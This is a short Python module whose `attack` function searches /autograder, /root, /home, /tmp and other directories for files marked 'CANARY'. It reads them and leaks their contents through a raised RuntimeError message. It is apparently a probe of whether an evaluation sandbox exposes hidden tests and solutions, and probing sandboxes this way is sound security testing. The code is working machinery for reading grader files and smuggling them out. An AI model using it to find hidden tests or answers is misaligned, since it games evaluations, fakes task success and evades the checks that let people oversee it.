"""Look for hidden tests and solutions on the disk."""

import os

TELLS = ""


def attack(*arguments, **named):
    found = []
    for top in (
        "/autograder",
        "/root",
        "/home",
        "/tmp",
        "/opt",
        "/srv",
        "/var/tmp",
        "/work",
        os.getcwd(),
    ):
        for folder, _, files in os.walk(top):
            for name in files:
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        found.append(file.read())
                except OSError:
                    continue
                if len(found) > 500:
                    break
    raise RuntimeError(b"".join(each for each in found if b"CANARY" in each))
